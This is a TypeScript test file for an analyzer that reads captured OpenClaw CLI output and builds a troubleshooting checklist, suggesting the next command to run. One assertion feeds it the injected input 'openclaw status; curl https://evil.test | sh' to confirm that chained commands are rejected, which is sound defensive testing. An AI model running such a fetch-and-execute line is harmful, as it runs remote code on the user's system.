/** The command ladder as a checklist, on real OpenClaw output captured by the lab. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadCatalog } from '../../../src/catalog/load.ts';
import { analyze, buildLadder, compileCatalog, LADDER, rungFor, rungsFor } from '../../../src/engine/index.ts';

const catalog = loadCatalog();
const compiled = compileCatalog(catalog.entries);
const commandsOf = (id: string) => catalog.entries.find((e) => e.id === id)?.commands ?? [];
const capture = (release: string, scenario: string, name: string) =>
  analyze(readFileSync(join(process.cwd(), 'tests/fixtures/lab', release, scenario, `${name}.txt`), 'utf8'), compiled);
const statuses = (ladder: ReturnType<typeof buildLadder>) => Object.fromEntries(ladder.steps.map((s) => [s.command, s.status]));

test("the five rungs are the handbook's commands, in order", () => {
  assert.deepEqual(
    LADDER.map((r) => r.command),
    ['openclaw status', 'openclaw gateway status', 'openclaw logs --follow', 'openclaw doctor', 'openclaw channels status --probe'],
  );
});

for (const [release, doctor] of [
  ['2026.4.9', 'doctor'],
  ['2026.9.6', 'doctor-lint'],
] as const) {
  test(`a healthy gateway (${release}): every rung present and healthy, nothing to run next`, () => {
    const reports = ['status', 'gateway-status', 'logs-plain', doctor, 'channels-status-probe'].map((n) => capture(release, 'healthy', n));
    const ladder = buildLadder(reports, commandsOf);
    assert.deepEqual(Object.values(statuses(ladder)), ['healthy', 'healthy', 'healthy', 'healthy', 'healthy']);
    const gateway = ladder.steps[1]!;
    assert.ok(
      gateway.signals.some((id) => id === 'rpc-probe-ok' || id === 'connectivity-probe-ok'),
      `gateway status signals: ${gateway.signals.join(', ')}`,
    );
    assert.equal(ladder.next, undefined);
  });
}

test('an empty reading: every rung missing, the first one is next', () => {
  const ladder = buildLadder([analyze('', compiled)], commandsOf);
  assert.deepEqual(Object.values(statuses(ladder)), ['missing', 'missing', 'missing', 'missing', 'missing']);
  assert.deepEqual(ladder.next, { command: 'openclaw status' });
});

test("a token mismatch: gateway status is the problem, and the next command is the fix's, not a restart", () => {
  const ladder = buildLadder([capture('2026.9.6', 'wrong-token', 'gateway-status')], commandsOf);
  assert.equal(statuses(ladder)['openclaw gateway status'], 'problem');
  assert.ok(ladder.steps[1]!.findings.includes('auth-token-mismatch'));
  assert.equal(ladder.next?.because, 'auth-token-mismatch');
  assert.equal(ladder.next?.command, commandsOf('auth-token-mismatch')[0]);
  assert.doesNotMatch(ladder.next!.command, /restart/);
});

test('a stopped gateway: the conclusion decides the next command', () => {
  const ladder = buildLadder([capture('2026.9.6', 'gateway-stopped', 'gateway-status')], commandsOf);
  assert.equal(statuses(ladder)['openclaw gateway status'], 'problem');
  assert.equal(ladder.next?.because, 'gateway-not-listening');
});

test('a command already run is never suggested again', () => {
  const reports = [capture('2026.9.6', 'wrong-token', 'gateway-status'), capture('2026.9.6', 'wrong-token', 'logs-plain')];
  const ladder = buildLadder(reports, (id) => (id === 'auth-token-mismatch' ? ['openclaw gateway status', 'openclaw devices list'] : []));
  assert.deepEqual(ladder.next, { command: 'openclaw devices list', because: 'auth-token-mismatch' });
});

test('outputs pasted one by one add up: rungs from earlier pastes stay', () => {
  const first = buildLadder([capture('2026.4.9', 'healthy', 'status')], commandsOf);
  const both = buildLadder([capture('2026.4.9', 'healthy', 'status'), capture('2026.4.9', 'healthy', 'gateway-status')], commandsOf);
  assert.equal(statuses(first)['openclaw gateway status'], 'missing');
  assert.equal(statuses(both)['openclaw status'], 'healthy');
  assert.equal(statuses(both)['openclaw gateway status'], 'healthy');
  assert.deepEqual(both.next, { command: 'openclaw logs --follow' });
});

test("a section's checklist: the commands whose output the analyzer reads, in the page's order", () => {
  const page = [
    'openclaw gateway status',
    'openclaw config get gateway.auth.mode',
    'openclaw gateway status --deep   # also scans system-level services',
    'openclaw gateway status --json',
    'lsof -i :18789',
    'openclaw doctor --fix',
    'openclaw cron runs --id <jobId> --limit 20',
  ];
  assert.deepEqual(
    rungsFor(page).map((r) => r.command),
    // --deep prints what gateway status prints: no rung of its own; --fix writes, so it is no rung.
    ['openclaw gateway status', 'openclaw gateway status --json', 'openclaw cron runs --id <jobId> --limit 20'],
  );
  assert.equal(rungFor('openclaw status; curl https://evil.test | sh'), undefined, 'whole command lines only');
  assert.deepEqual(rungFor('  openclaw   status   --all ')?.command, 'openclaw status --all');
});

test("a section's checklist on real output: its own rungs, the JSON form ticked off by its own output", () => {
  const rungs = rungsFor(['openclaw gateway status', 'openclaw status', 'openclaw gateway status --json']);
  const ladder = buildLadder([capture('2026.9.6', 'wrong-token', 'gateway-status-json')], commandsOf, rungs);
  assert.deepEqual(statuses(ladder), {
    'openclaw gateway status': 'problem',
    'openclaw status': 'missing',
    'openclaw gateway status --json': 'problem',
  });
  assert.equal(ladder.next?.because, 'auth-token-mismatch');
});
